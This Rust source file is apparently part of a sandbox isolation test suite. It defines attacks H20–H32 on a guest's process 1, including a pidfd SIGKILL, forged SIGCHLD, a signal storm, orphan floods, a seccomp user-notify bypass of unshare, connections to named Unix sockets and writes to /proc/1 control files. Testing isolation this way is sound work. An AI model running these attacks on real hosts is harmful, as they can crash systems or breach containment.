//! H20 to H32: the guest, process 1, by ways other than the plain ones of group B.

use crate::attack::{Attack, Finding, Outcome};
use crate::probe::PROBE;
use crate::probe::system::{End, call, check, fork, text, wait};
use std::fs::{self, File, OpenOptions};
use std::io;
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixStream};
use std::time::Duration;

pub const ATTACKS: &[Attack] = &[
    Attack::plain("H20-exec-init", "process 1's own program executed", exec_init),
    Attack::plain("H21-pidfd-kill-init", "SIGKILL to process 1 through a pidfd", pidfd_kill)
        .alone()
        .effect_only(),
    Attack::plain("H22-forged-child", "a forged SIGCHLD with another's end in it", forged_child)
        .alone()
        .effect_only(),
    Attack::plain("H23-signal-storm", "100,000 signals at process 1", storm).alone().effect_only(),
    Attack::plain("H24-owner-signal", "process 1 made the owner of a descriptor that signals", owner_signal)
        .alone()
        .effect_only(),
    Attack::plain("H25-orphans", "400 orphans at once for process 1 to bury", orphans).alone().effect_only(),
    Attack::plain("H26-notify-continue", "a supervisor of one's own lets unshare through", notify_continue),
    Attack::plain("H27-named-sockets", "every socket that /proc/net/unix names", named_sockets).on_host(),
    Attack::plain("H28-peer-of-streams", "who is at the other end of stdin, stdout, stderr", peers),
    Attack::text("H29-init-dump-filter", "what process 1 would dump", open_write, "/proc/1/coredump_filter"),
    Attack::text("H30-init-clear-refs", "process 1's page flags", open_write, "/proc/1/clear_refs"),
    Attack::text("H31-init-clock", "process 1's clock offsets", open_write, "/proc/1/timens_offsets"),
    Attack::text("H32-init-uid-map", "the user map of process 1", open_write, "/proc/1/uid_map"),
];

fn exec_init() -> Finding {
    let child = fork(|| {
        let (path, probe, word) = (text("/proc/1/exe"), text(PROBE), text("--privileges"));
        let words = [path.as_ptr(), probe.as_ptr(), word.as_ptr(), std::ptr::null()];
        let none = [std::ptr::null::<libc::c_char>()];
        let silent = text("/dev/null");
        // SAFETY: names and lists outlive the calls and end with null.
        unsafe {
            libc::dup2(libc::open(silent.as_ptr(), libc::O_WRONLY), 1);
            libc::execve(path.as_ptr(), words.as_ptr(), none.as_ptr());
        }
        // Small enough for an exit code.
        io::Error::last_os_error().raw_os_error().unwrap_or(255)
    });
    match child.and_then(wait) {
        Ok(End::Exited(0)) => Finding::new(Outcome::Done, "it ran"),
        Ok(End::Exited(errno)) => Finding::of(Err::<(), _>(io::Error::from_raw_os_error(errno)), "execve"),
        _ => Finding::new(Outcome::Error, "the child died"),
    }
}

fn pause() {
    std::thread::sleep(Duration::from_millis(100));
}

fn pidfd_kill() -> Finding {
    let sent = call(libc::SYS_pidfd_open, [1, 0, 0, 0, 0, 0])
        .and_then(|pidfd| call(libc::SYS_pidfd_send_signal, [pidfd, i64::from(libc::SIGKILL), 0, 0, 0, 0]));
    pause();
    Finding::of(sent, "pidfd_send_signal")
}

fn forged_child() -> Finding {
    // The layout of siginfo: number, errno, code, then for a child its pid, uid and status.
    let mut info = [0i32; 32];
    info[0] = libc::SIGCHLD;
    info[2] = -1; // SI_QUEUE: what a process may claim
    info[4] = std::process::id() as i32;
    let sent = call(libc::SYS_rt_sigqueueinfo, [1, i64::from(libc::SIGCHLD), info.as_ptr() as i64, 0, 0, 0]);
    pause();
    Finding::of(sent, "rt_sigqueueinfo")
}

fn storm() -> Finding {
    let signals = [libc::SIGCHLD, libc::SIGUSR1, libc::SIGALRM, libc::SIGHUP, libc::SIGIO, 40];
    let mut taken = 0;
    for round in 0..100_000usize {
        let signal = i64::from(signals[round % signals.len()]);
        taken += i32::from(call(libc::SYS_kill, [1, signal, 0, 0, 0, 0]).is_ok());
    }
    Finding::new(if taken == 0 { Outcome::Denied } else { Outcome::Done }, format!("{taken} taken"))
}

fn owner_signal() -> Finding {
    let mut pair = [0i32; 2];
    let made = call(libc::SYS_pipe2, [pair.as_mut_ptr() as i64, i64::from(libc::O_NONBLOCK), 0, 0, 0, 0]);
    let set = made.and_then(|_| {
        let control = |command: i32, value: i32| {
            call(libc::SYS_fcntl, [i64::from(pair[0]), i64::from(command), i64::from(value), 0, 0, 0])
        };
        const F_SETSIG: i32 = 10;
        control(libc::F_SETOWN, 1)?;
        control(F_SETSIG, libc::SIGKILL)?;
        control(libc::F_SETFL, libc::O_ASYNC | libc::O_NONBLOCK)?;
        call(libc::SYS_write, [i64::from(pair[1]), b"x".as_ptr() as i64, 1, 0, 0, 0])
    });
    pause();
    Finding::of(set, "F_SETOWN")
}

fn orphans() -> Finding {
    let mut made = 0;
    for _ in 0..40 {
        let middle = fork(|| {
            for _ in 0..10 {
                // Each ends at once, after its parent: process 1 has to take them all.
                let _ = fork(|| 7);
            }
            0
        });
        made += i32::from(middle.and_then(wait).is_ok()) * 10;
    }
    pause();
    Finding::new(Outcome::Done, format!("{made} orphans"))
}

/// A filter of one's own asks a supervisor of one's own, which says that the call may go on.
fn notify_continue() -> Finding {
    const LISTENER: i64 = 8;
    const RECEIVE: u64 = 0xc050_2100;
    const SEND: u64 = 0xc018_2101;
    const USER_NOTIFY: u32 = 0x7fc0_0000;
    const ALLOW: u32 = 0x7fff_0000;
    let number = libc::SYS_unshare as u32;
    let mut code = [
        libc::sock_filter { code: 0x20, jt: 0, jf: 0, k: 0 },
        libc::sock_filter { code: 0x15, jt: 0, jf: 1, k: number },
        libc::sock_filter { code: 0x06, jt: 0, jf: 0, k: USER_NOTIFY },
        libc::sock_filter { code: 0x06, jt: 0, jf: 0, k: ALLOW },
    ];
    let program = libc::sock_fprog { len: 4, filter: code.as_mut_ptr() };
    // SAFETY: takes no memory.
    unsafe { libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) };
    let listener = match call(libc::SYS_seccomp, [1, LISTENER, &raw const program as i64, 0, 0, 0]) {
        Ok(listener) => listener,
        Err(error) => return Finding::new(Outcome::Denied, format!("no supervisor: {error}")),
    };
    let child = fork(|| {
        let asked = call(libc::SYS_unshare, [i64::from(libc::CLONE_NEWUTS), 0, 0, 0, 0, 0]);
        asked.map_or_else(|error| error.raw_os_error().unwrap_or(255), |_| 0)
    });
    let mut watched = libc::pollfd { fd: listener as i32, events: libc::POLLIN, revents: 0 };
    // SAFETY: the one entry outlives the call. If an outer filter refuses first, no question ever comes.
    if unsafe { libc::poll(&raw mut watched, 1, 500) } == 1 {
        let mut question = [0u8; 80];
        let mut answer = [0u8; 24];
        if call(libc::SYS_ioctl, [listener, RECEIVE as i64, question.as_mut_ptr() as i64, 0, 0, 0]).is_ok() {
            answer[..8].copy_from_slice(&question[..8]);
            answer[20] = 1; // continue
            let _ = call(libc::SYS_ioctl, [listener, SEND as i64, answer.as_mut_ptr() as i64, 0, 0, 0]);
        }
    }
    match child.and_then(wait) {
        Ok(End::Exited(0)) => Finding::new(Outcome::Done, "unshare went through"),
        Ok(End::Exited(errno)) => Finding::of(Err::<(), _>(io::Error::from_raw_os_error(errno)), "unshare"),
        _ => Finding::new(Outcome::Error, "the child died"),
    }
}

fn named_sockets() -> Finding {
    let table = fs::read_to_string("/proc/net/unix").unwrap_or_default();
    let names = table.lines().skip(1).filter_map(|line| line.split_whitespace().nth(7));
    let mut tried = 0;
    for name in names {
        tried += 1;
        let reached = match name.strip_prefix('@') {
            Some(word) => SocketAddr::from_abstract_name(word).and_then(|to| UnixStream::connect_addr(&to)),
            None => UnixStream::connect(name),
        };
        if reached.is_ok() {
            return Finding::new(Outcome::Done, format!("{name} took a connection"));
        }
    }
    Finding::new(Outcome::Denied, format!("{tried} names, none took a connection"))
}

fn peers() -> Finding {
    let mut found = Vec::new();
    for stream in 0..3 {
        let mut who = libc::ucred { pid: 0, uid: 0, gid: 0 };
        let mut length = size_of::<libc::ucred>() as libc::socklen_t;
        // SAFETY: both outlive the call, and the length is that of the structure.
        let told = check(i64::from(unsafe {
            libc::getsockopt(
                stream,
                libc::SOL_SOCKET,
                libc::SO_PEERCRED,
                (&raw mut who).cast(),
                &raw mut length,
            )
        }));
        if told.is_ok() {
            found.push(format!("{stream}: process {} of user {}", who.pid, who.uid));
        }
    }
    let outcome = if found.is_empty() { Outcome::Denied } else { Outcome::Done };
    Finding::new(outcome, format!("{found:?}"))
}

fn open_write(path: &'static str) -> Finding {
    let opened: io::Result<File> = OpenOptions::new().write(true).open(path);
    Finding::of(opened.map(|file| file.as_raw_fd()), path)
}
